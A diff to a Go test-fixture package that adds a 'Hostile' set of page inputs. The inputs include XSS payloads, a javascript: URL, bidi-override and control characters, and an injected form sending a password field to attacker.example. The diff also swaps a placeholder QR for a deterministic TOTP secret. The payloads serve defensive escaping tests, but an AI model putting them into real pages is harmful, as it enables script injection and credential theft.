@@ -3,8 +3,12 @@
 package pagestest
 
 import (
+	"bytes"
+	"strings"
+	"sync"
 	"time"
 
+	"swab/internal/credential"
 	"swab/internal/issuer/pages"
 )
 
@@ -25,6 +29,36 @@ var Plain = Text{
 	"corp.example", "Incident console", "Ann Example", "ann@corp.example", "Responders",
 	"Mozilla/5.0 (X11; Linux x86_64; rv:145.0) Gecko/20100101 Firefox/145.0", "192.0.2.17",
 }
+
+// Hostile is what somebody would try.
+var Hostile = Text{
+	Tenant:      strings.Repeat("tenant", 10) + ".example",
+	Application: `"><script>alert(1)</script><img src=x onerror=alert(2)>` + strings.Repeat("W", 145),
+	Name:        "\u202egro.live \u2067אבג \u202dabc\x1b[31m\x00" + strings.Repeat("ש", 160) + "</strong></bdi></main>{{.}}",
+	Principal:   strings.Repeat("a", 180) + "'\" autofocus onfocus=alert(3) x=\"@corp.example",
+	Group:       "</dd></dl><form action=https://attacker.example><input name=password>\xff\xfe" + strings.Repeat("ﷺ", 40),
+	Agent:       "<style>*{display:none}</style>\u202e" + strings.Repeat("curl/8 ", 500),
+	Address:     "javascript:alert(4)",
+}
+
+// secret is that of two-step verification, and qr how it is shown: the same in
+// every run.
+var (
+	secret = func() credential.TOTP {
+		t, err := credential.RestoreTOTP(bytes.Repeat([]byte("swab"), 5))
+		if err != nil {
+			panic(err)
+		}
+		return t
+	}()
+	qr = sync.OnceValue(func() []byte {
+		svg, err := secret.QR("Swab", "ann@corp.example")
+		if err != nil {
+			panic(err)
+		}
+		return svg
+	})
+)
 
 // Samples are all pages, each as it is usually, and again as it is else.
 func Samples(text Text) []Sample {
@@ -50,7 +84,7 @@ func Samples(text Text) []Sample {
 	last := protected
 	last.Recovery, last.Notice, last.Sessions = 0, "", account.Sessions[:1]
 	setUp := pages.TwoStepSetup{
-		Form: own, Tenant: text.Tenant, Principal: text.Principal, QR: qr, Secret: "JBSW Y3DP EHPK 3PXP JBSW Y3DP EHPK 3PXP", Cancel: "/account",
+		Form: own, Tenant: text.Tenant, Principal: text.Principal, QR: qr(), Secret: secret.Text().Reveal(), Cancel: "/account",
 	}
 	typed := setUp
 	typed.QR, typed.Must, typed.Cancel = nil, true, ""
@@ -113,6 +147,3 @@ func Samples(text Text) []Sample {
 		}},
 	}
 }
-
-// qr stands for a QR code, of the size of one.
-var qr = []byte(`<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 53 53" shape-rendering="crispEdges"><path fill="#fff" d="M0 0h53v53H0z"/><path fill="#000" d="M4 4h7v7h-7zM42 4h7v7h-7zM4 42h7v7h-7z"/></svg>`)
